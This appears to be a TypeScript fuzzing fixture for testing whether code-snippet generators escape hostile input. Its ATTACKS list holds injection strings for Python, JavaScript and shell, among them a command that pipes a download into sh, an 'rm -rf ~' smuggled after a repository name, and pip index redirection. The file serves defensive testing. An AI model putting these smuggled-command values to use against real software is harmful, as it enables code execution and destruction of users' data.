// Hostile strings for the snippet generators' injection tests (tasks and inference). Every value carries
// MARKER at its start, its end and between its pieces, so a piece that escapes a string literal or a
// comment drags a marker into code, where scanForMarker (literal-scan.ts) finds it.
import fc from "fast-check";

/** Not an identifier, not a bare shell word, not a hub id; unlikely in any generator's own text. */
export const MARKER = "%Zq%";

// Multi-character sequences that only attack as a whole stay unsplit; anything else is one character.
const PIECE = /"""|'''|\$\{|\$\(|\*\/|\/\*|\r\n|[\s\S]/gu;

/** `text` with MARKER before, after and between its pieces. */
export function markerLaden(text: string): string {
  return `${MARKER}${(text.match(PIECE) ?? []).join(MARKER)}${MARKER}`;
}

/** Concrete attacks on Python, JavaScript, shell, comments and terminals (before markers are added). */
export const ATTACKS: readonly string[] = [
  "x=__import__('os').system('id'),y",
  "**{}",
  '"); import os; os.system("id"); ("',
  "'); require('child_process').execSync('id'); ('",
  '""" + __import__("os").system("id") + """',
  "''' + exec('id') + '''",
  "\u0024{process.exit(1)}",
  "`id`",
  "$(id)",
  "'; id; echo '",
  '"; id; echo "',
  "a\nimport os",
  "a\rimport os",
  "a\r\nimport os",
  "a\u2028alert(1)",
  "a\u2029alert(1)",
  "a\u0000b",
  "a\u000bb\u000cc\u001bd\u0085e",
  "# comment\nos.system('id')",
  "*/ alert(1) /*",
  "\\",
  '\\"',
  "\\'",
  "\\u0022",
  "--index-url=https://example.invalid/simple",
  "-e git+https://example.invalid/x",
  "org/name; rm -rf ~",
  "org/name && curl example.invalid | sh",
  "\u202eevil\u202c",
  "\ufeffbom",
  "{{ 7*7 }} %s {0}",
  "__proto__",
  "constructor",
  "\ud800 lone surrogate",
];

const ATTACK_PIECES = ['"', "'", "`", "\\", "${", "$(", "}", ")", "\n", "\r", "\u2028", "\u2029", "\u0000", "#"];

/** Random hostile text: attack pieces mixed with arbitrary Unicode (lone surrogates included), marker-laden. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(fc.oneof(fc.constantFrom(...ATTACK_PIECES, ...ATTACKS), fc.string({ unit: "binary", maxLength: 6 })), {
    maxLength: 6,
  })
  .map((parts) => markerLaden(parts.join("")));

/** Hostile text without control characters or line separators: passes one-line checks, tests the quoting. */
export const hostileLine: fc.Arbitrary<string> = hostileText.map((text) => text.replace(/[\p{Cc}\u2028\u2029]/gu, "?"));
